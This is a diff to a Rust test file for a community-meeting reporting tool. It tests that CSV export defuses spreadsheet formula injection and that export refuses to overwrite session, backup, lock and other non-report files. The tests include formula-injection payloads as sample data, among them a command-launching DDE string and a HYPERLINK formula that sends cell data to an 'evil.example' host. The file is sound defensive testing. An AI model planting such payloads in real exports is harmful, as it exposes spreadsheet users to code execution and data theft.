@@ -10,7 +10,7 @@ use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 
 use baraza::model::*;
-use baraza::report::csv::{BOM, CsvOptions, SessionTable};
+use baraza::report::csv::{BOM, CsvOptions, FORMULA_STARTS, SessionTable};
 use baraza::report::{Options, RESPONSIBLE_TYPES, csv, html, markdown};
 use baraza::store;
 use chrono::{DateTime, Duration, NaiveDate};
@@ -508,9 +508,26 @@ fn markdown_escapes_typed_text_and_keeps_tables_whole() {
 
 // --- CSV ------------------------------------------------------------------
 
+/// What a typed field reads back as from CSV: exactly as typed, or with a
+/// leading `'` when it would start a formula.
+fn guarded(typed: &str) -> String {
+    if typed.starts_with(FORMULA_STARTS) {
+        format!("'{typed}")
+    } else {
+        typed.to_string()
+    }
+}
+
 #[test]
 fn csv_tables_read_back_with_awkward_fields_intact() {
-    let s = awkward();
+    let mut s = awkward();
+    // Typed text that a spreadsheet would take for a formula.
+    s.problems[2].category = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    s.problems[0]
+        .effects
+        .insert(0, "+ more fights at night".into());
+    s.actions[1].resources = "=2*3 solar lamps".into();
+    s.actions[1].progress[0].text = "\t=1+1 lamps up".into();
     let options = as_of();
     let table = |t| csv::table(&s, t, &options, CsvOptions::default());
 
@@ -522,7 +539,30 @@ fn csv_tables_read_back_with_awkward_fields_intact() {
     let title = column(&header, "title");
     assert_eq!(rows[0][title], TITLE_1);
     assert_eq!(rows[1][title], TITLE_2);
-    assert_eq!(rows[3][title], TITLE_4);
+    // A cell that would start a formula comes back with a leading '; every
+    // other cell exactly as typed.
+    assert_eq!(rows[3][title], format!("'{TITLE_4}"));
+    assert_eq!(rows[3][title], guarded(TITLE_4));
+    let category = column(&header, "category");
+    assert_eq!(rows[2][category], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(rows[0][category], "Crime and theft");
+    assert_eq!(
+        rows[0][column(&header, "effects")],
+        "'+ more fights at night\nwomen avoid the stage"
+    );
+    for (row, p) in rows.iter().zip(&s.problems) {
+        assert_eq!(row[title], guarded(&p.title));
+        assert_eq!(row[category], guarded(&p.category));
+        assert_eq!(row[column(&header, "location")], guarded(&p.location));
+        assert_eq!(
+            row[column(&header, "causes")],
+            guarded(&p.causes.join("\n"))
+        );
+        assert_eq!(
+            row[column(&header, "effects")],
+            guarded(&p.effects.join("\n"))
+        );
+    }
     assert_eq!(
         rows[0][column(&header, "causes")],
         "no lights, no police\ncrowds \"everywhere\""
@@ -600,6 +640,11 @@ fn csv_tables_read_back_with_awkward_fields_intact() {
     );
     assert_eq!(rows[0][column(&header, "overdue")], "yes");
     assert_eq!(rows[0][column(&header, "days_overdue")], "311");
+    assert_eq!(rows[1][column(&header, "resources")], "'=2*3 solar lamps");
+    assert_eq!(
+        rows[0][column(&header, "resources")],
+        "printing, 2 notice boards"
+    );
     assert_eq!(
         rows[1][column(&header, "overdue")],
         "no",
@@ -609,6 +654,7 @@ fn csv_tables_read_back_with_awkward_fields_intact() {
     let (header, rows) = parse_csv(&table(SessionTable::Progress));
     assert_eq!(rows.len(), 2);
     assert_eq!(rows[0][column(&header, "note")], NOTE_1);
+    assert_eq!(rows[1][column(&header, "note")], "'\t=1+1 lamps up");
     assert_eq!(rows[0][column(&header, "date")], "2026-01-12");
 
     let (_, rows) = parse_csv(&table(SessionTable::Groups));
@@ -623,6 +669,144 @@ fn csv_tables_read_back_with_awkward_fields_intact() {
     );
     assert!(plain.starts_with(b"session,"));
     assert_eq!(parse_csv(&plain), parse_csv(&bytes));
+}
+
+/// [`awkward`] with every field typed by people starting with a character
+/// that would start a formula.
+fn hostile() -> Session {
+    let mut s = awkward();
+    let starts = ["=", "+", "-", "@", "\t", "\r"];
+    let mut n = 0;
+    let mut evil = |text: &mut String| {
+        *text = format!("{}{text}", starts[n % starts.len()]);
+        n += 1;
+    };
+    evil(&mut s.id);
+    evil(&mut s.title);
+    evil(&mut s.location);
+    for g in &mut s.groups {
+        evil(&mut g.name);
+    }
+    for c in &mut s.ranking.criteria {
+        evil(&mut c.name);
+    }
+    for p in &mut s.problems {
+        evil(&mut p.title);
+        evil(&mut p.category);
+        evil(&mut p.location);
+        evil(&mut p.description);
+        p.causes.iter_mut().for_each(&mut evil);
+        p.effects.iter_mut().for_each(&mut evil);
+    }
+    for a in &mut s.actions {
+        for field in [
+            &mut a.activity,
+            &mut a.responsible,
+            &mut a.partners,
+            &mut a.resources,
+            &mut a.indicator,
+            &mut a.risks,
+        ] {
+            evil(field);
+        }
+        a.progress.iter_mut().for_each(|note| evil(&mut note.text));
+    }
+    for d in &mut s.ranking.pairs {
+        evil(&mut d.reason);
+    }
+    for t in &mut s.ranking.tie_breaks {
+        if let TieBreakHow::Decision { reason } = &mut t.how {
+            evil(reason);
+        }
+    }
+    s.problems[0].title = r#"=HYPERLINK("http://evil.example/?"&B2,"x")"#.into();
+    s
+}
+
+#[test]
+fn no_csv_cell_starts_a_formula_but_our_numbers_are_left_alone() {
+    let s = hostile();
+    for options in [as_of(), as_of().anonymized()] {
+        for t in SessionTable::ALL {
+            let (header, rows) = parse_csv(&csv::table(&s, t, &options, CsvOptions::default()));
+            for cell in header.iter().chain(rows.iter().flatten()) {
+                assert!(
+                    !cell.starts_with(FORMULA_STARTS),
+                    "{} table: {cell:?}",
+                    t.name()
+                );
+            }
+        }
+    }
+    let (header, rows) = parse_csv(&csv::table(
+        &s,
+        SessionTable::Problems,
+        &as_of(),
+        CsvOptions::default(),
+    ));
+    assert_eq!(
+        rows[0][column(&header, "title")],
+        r#"'=HYPERLINK("http://evil.example/?"&B2,"x")"#
+    );
+    assert_eq!(rows[0][column(&header, "session")], "'=awk0001");
+    // Counts, ranks, scores, dates and times are written as they are.
+    let plain = parse_csv(&csv::table(
+        &awkward(),
+        SessionTable::Problems,
+        &as_of(),
+        CsvOptions::default(),
+    ));
+    let ours = [
+        "problem_id",
+        "shortlist_position",
+        "rank",
+        "score",
+        "dots",
+        "dots_rank",
+        "dots_score",
+        "pairwise_rank",
+        "pairwise_score",
+        "criteria_rank",
+        "criteria_score",
+    ];
+    for name in ours {
+        let (here, there) = (column(&header, name), column(&plain.0, name));
+        for (a, b) in rows.iter().zip(&plain.1) {
+            assert_eq!(a[here], b[there], "{name}");
+            assert!(a[here].is_empty() || a[here].parse::<f64>().unwrap() >= 0.0);
+        }
+    }
+    let (header, rows) = parse_csv(&csv::table(
+        &s,
+        SessionTable::Actions,
+        &as_of(),
+        CsvOptions::default(),
+    ));
+    assert_eq!(rows[0][column(&header, "due")], "2026-01-20");
+    assert_eq!(rows[0][column(&header, "days_overdue")], "311");
+    let (header, rows) = parse_csv(&csv::table(
+        &s,
+        SessionTable::Votes,
+        &as_of(),
+        CsvOptions::default(),
+    ));
+    assert_eq!(rows[0][column(&header, "at")], "2026-01-03T09:01:00+03:00");
+
+    // The roll-up's tables too.
+    use baraza::report::rollup::{self, RollupOptions, RollupTable};
+    let r = rollup::rollup(&[s], &RollupOptions::new(day(2026, 11, 27)));
+    for t in RollupTable::ALL {
+        let (header, rows) = parse_csv(&rollup::csv_table(&r, t, CsvOptions::default()));
+        for cell in header.iter().chain(rows.iter().flatten()) {
+            assert!(!cell.starts_with(FORMULA_STARTS), "{}: {cell:?}", t.name());
+        }
+    }
+    let (_, rows) = parse_csv(&rollup::csv_table(
+        &r,
+        RollupTable::Escalated,
+        CsvOptions::default(),
+    ));
+    assert_eq!(rows.len(), 1);
 }
 
 #[test]
@@ -1072,8 +1256,8 @@ fn export_mistakes_get_one_line_and_the_right_exit_code() {
             &dir,
             &["export", "kibera", "-o", session_file.to_str().unwrap()],
         ),
-        2,
-        "never written over a session file",
+        1,
+        "is a session file; a report is never written over one",
     );
     assert_eq!(fs::read(&session_file).unwrap(), before);
     let unwritable = dir.join("no-such-folder").join("report.md");
@@ -1093,6 +1277,164 @@ fn export_mistakes_get_one_line_and_the_right_exit_code() {
             "{name}"
         );
     }
+}
+
+#[test]
+fn export_never_writes_over_baraza_own_files_or_files_that_are_not_reports() {
+    let (tmp, dir) = examples_folder();
+    let kibera = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.ron");
+    let refused = |target: &Path, says: &str| {
+        let before = fs::symlink_metadata(target)
+            .ok()
+            .map(|_| fs::read(target).ok());
+        for args in [
+            vec!["export", "kibera", "-o", target.to_str().unwrap()],
+            vec![
+                "export",
+                "kibera",
+                "-F",
+                "html",
+                "-o",
+                target.to_str().unwrap(),
+            ],
+            vec![
+                "export",
+                "kibera",
+                "-F",
+                "csv",
+                "--table",
+                "problems",
+                "-o",
+                target.to_str().unwrap(),
+            ],
+            vec!["rollup", "-o", target.to_str().unwrap()],
+        ] {
+            let out = baraza(&dir, &args);
+            assert_short_error(&out, 1, says);
+            assert_eq!(stderr(&out).lines().count(), 1, "{}", stderr(&out));
+            assert_eq!(
+                fs::symlink_metadata(target)
+                    .ok()
+                    .map(|_| fs::read(target).ok()),
+                before,
+                "{} is as it was after {args:?}",
+                target.display()
+            );
+        }
+    };
+
+    // The backup of an upgraded original: the only copy of the old file.
+    let backup = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.v1.ron.bak");
+    fs::write(&backup, "(version: 1)").unwrap();
+    refused(&backup, "is the backup of a session file");
+    refused(
+        &dir.join("anything.ron.bak"),
+        "is the backup of a session file",
+    );
+    refused(&kibera, "is a session file");
+    refused(&dir.join("new.RON"), "is a session file");
+
+    // The lock of a session open for editing: replacing the file would give
+    // it a new inode, which a second program could lock.
+    let open = baraza::store::OpenSession::open(&kibera, "facilitator").unwrap();
+    let lock = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.ron.lock");
+    #[cfg(unix)]
+    let inode = {
+        use std::os::unix::fs::MetadataExt;
+        fs::metadata(&lock).unwrap().ino()
+    };
+    refused(&lock, "is a session's lock file");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::MetadataExt;
+        assert_eq!(fs::metadata(&lock).unwrap().ino(), inode);
+    }
+    assert!(
+        baraza::store::OpenSession::open(&kibera, "second").is_err(),
+        "the session is still locked"
+    );
+    drop(open);
+
+    // The listing cache and temporary files, there or not.
+    assert!(baraza(&dir, &["list"]).status.success());
+    refused(&dir.join(".baraza-index"), "is the listing cache");
+    refused(&tmp.path().join(".baraza-index"), "is the listing cache");
+    refused(
+        &dir.join(".baraza-tmp-4242-0-2026-06-06-kibera-youth-baraza-cycle-1.ron"),
+        "is a session file",
+    );
+    refused(
+        &dir.join(".baraza-tmp-4242-1-report.md"),
+        "is a temporary file",
+    );
+
+    // Other files that are there and are not reports.
+    let notes = tmp.path().join("notes.txt");
+    fs::write(&notes, "the only copy of my notes").unwrap();
+    refused(&notes, "exists and is not a report (.md, .html or .csv)");
+    let script = tmp.path().join("run");
+    fs::write(&script, "#!/bin/sh").unwrap();
+    refused(&script, "exists and is not a report");
+    #[cfg(unix)]
+    {
+        let link = tmp.path().join("link.md");
+        std::os::unix::fs::symlink(&notes, &link).unwrap();
+        refused(&link, "exists and is not a plain file");
+        assert_eq!(
+            fs::read_to_string(&notes).unwrap(),
+            "the only copy of my notes"
+        );
+    }
+
+    // Every CSV table to FILE-<table>.csv: refused as a whole when one name is.
+    let out = baraza(
+        &dir,
+        &[
+            "export",
+            "kibera",
+            "-F",
+            "csv",
+            "-o",
+            dir.join(".baraza-tmp-9-9-x.csv").to_str().unwrap(),
+        ],
+    );
+    assert_short_error(&out, 1, "is a temporary file");
+    assert!(
+        fs::read_dir(&dir).unwrap().all(|e| !e
+            .unwrap()
+            .file_name()
+            .to_string_lossy()
+            .ends_with(".csv"))
+    );
+
+    // What still works: a report over a report, a new file of any name,
+    // a folder, standard output.
+    let old = tmp.path().join("old.md");
+    fs::write(&old, "last week's report").unwrap();
+    let out = baraza(&dir, &["export", "kibera", "-o", old.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        fs::read_to_string(&old)
+            .unwrap()
+            .starts_with("# Kibera youth baraza")
+    );
+    let new = tmp.path().join("report.txt");
+    let out = baraza(&dir, &["export", "kibera", "-o", new.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(new.is_file());
+    let out = baraza(
+        &dir,
+        &["export", "kibera", "-o", tmp.path().to_str().unwrap()],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        tmp.path()
+            .join("2026-06-06-kibera-youth-baraza-cycle-1.md")
+            .is_file()
+    );
+    let out = baraza(&dir, &["export", "kibera", "-o", "-"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(stdout(&out).starts_with("# Kibera youth baraza"));
 }
 
 // --- In the program -------------------------------------------------------
